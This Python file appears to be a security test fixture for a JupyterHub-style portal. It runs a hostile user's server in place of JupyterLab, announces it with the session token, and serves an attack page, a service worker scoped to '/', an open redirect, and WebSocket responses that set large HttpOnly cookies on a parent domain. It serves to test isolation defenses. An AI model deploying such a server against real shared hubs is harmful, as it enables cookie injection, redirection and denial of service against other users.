"""A session whose owner is hostile: a server of theirs stands where JupyterLab should. Run as that person, on the node.

Standard input has the session's environment, as its owner can read it. The server announces itself as the session's and
serves the page of :data:`PAGE`, which tries what it can as whoever looks at it. Standard library alone.
"""

from __future__ import annotations

import base64
import hashlib
import json
import ssl
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

PAGE = Path(__file__).with_name("hostile_page.html")
MAGIC = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"  # RFC 6455 §1.3
WORKER = b"self.addEventListener('fetch', event => event.respondWith(new Response('the worker saw it')));"


class Handler(BaseHTTPRequestHandler):
    """The page, its worker, web sockets that bring cookies, and a good word for the hub's own look."""

    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        """Serve."""
        if "Sec-WebSocket-Key" in self.headers:
            self.bring_cookies()
            return
        if "/away?" in self.path:
            self.lead(self.path.partition("?")[2])
            return
        is_script = self.path.endswith(".js")
        kind = "text/javascript" if is_script else "text/html"
        body = WORKER if is_script else PAGE.read_bytes()
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Service-Worker-Allowed", "/")
        self.send_header("Cross-Origin-Opener-Policy", "same-origin")  # as the hub's pages: to be opened as one of them
        self.end_headers()
        self.wfile.write(body)

    def lead(self, place: str) -> None:
        """``/user/bob/away?/hub/home``: to another place of the same address."""
        self.send_response(302)
        self.send_header("Location", place)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def bring_cookies(self) -> None:
        """``/user/bob/0?portal.example.org``: a web socket, and cookies for that domain that no script reads."""
        accepted = hashlib.sha1((self.headers["Sec-WebSocket-Key"] + MAGIC).encode()).digest()  # noqa: S324  RFC 6455
        path, _, domain = self.path.partition("?")
        self.send_response(101)
        self.send_header("Connection", "Upgrade")
        self.send_header("Upgrade", "websocket")
        self.send_header("Sec-WebSocket-Accept", base64.b64encode(accepted).decode())
        for number in range(3):
            name = f"socket{path[-1]}{number}"
            self.send_header("Set-Cookie", f"{name}={'x' * 3900}; Domain={domain}; Path=/; HttpOnly")
        self.end_headers()
        self.rfile.read(1)  # until the page closes it
        self.close_connection = True

    def log_message(self, *_: object) -> None:
        """Say nothing."""


def context_of(texts: dict[str, str], purpose: ssl.Purpose) -> ssl.SSLContext:
    """TLS with this session's own certificate."""
    with tempfile.TemporaryDirectory() as folder:
        files = {name: Path(folder, name) for name in texts}
        for name, file in files.items():
            file.write_text(texts[name])
        context = ssl.create_default_context(purpose, cafile=str(files["cafile"]))
        context.load_cert_chain(files["certfile"], files["keyfile"])
        return context


def main() -> None:
    """Announce, then serve for ever."""
    environment = json.load(sys.stdin)
    texts = json.loads(environment.get("DSPORTAL_TLS") or "null")
    server = ThreadingHTTPServer(("0.0.0.0", 0), Handler)  # noqa: S104
    if texts:
        server.socket = context_of(texts, ssl.Purpose.CLIENT_AUTH).wrap_socket(server.socket, server_side=True)
    request = urllib.request.Request(  # noqa: S310
        f"{environment['JUPYTERHUB_API_URL']}/dsportal/ready",
        data=json.dumps({"port": server.server_port, "restarts": 0}).encode(),
        headers={"Authorization": f"token {environment['JUPYTERHUB_API_TOKEN']}", "Content-Type": "application/json"},
    )
    threading.Thread(target=server.serve_forever, daemon=True).start()
    announce(request, context_of(texts, ssl.Purpose.SERVER_AUTH) if texts else None)
    threading.Event().wait()


def announce(request: urllib.request.Request, context: ssl.SSLContext | None) -> None:
    """Until the hub takes it: it does not before the job is submitted."""
    while True:
        try:
            with urllib.request.urlopen(request, timeout=20, context=context) as answer:  # noqa: S310
                print(f"announced: {answer.status}", flush=True)
                return
        except urllib.error.HTTPError as error:
            print(f"not yet: {error}", file=sys.stderr, flush=True)
            time.sleep(0.05)


if __name__ == "__main__":
    main()
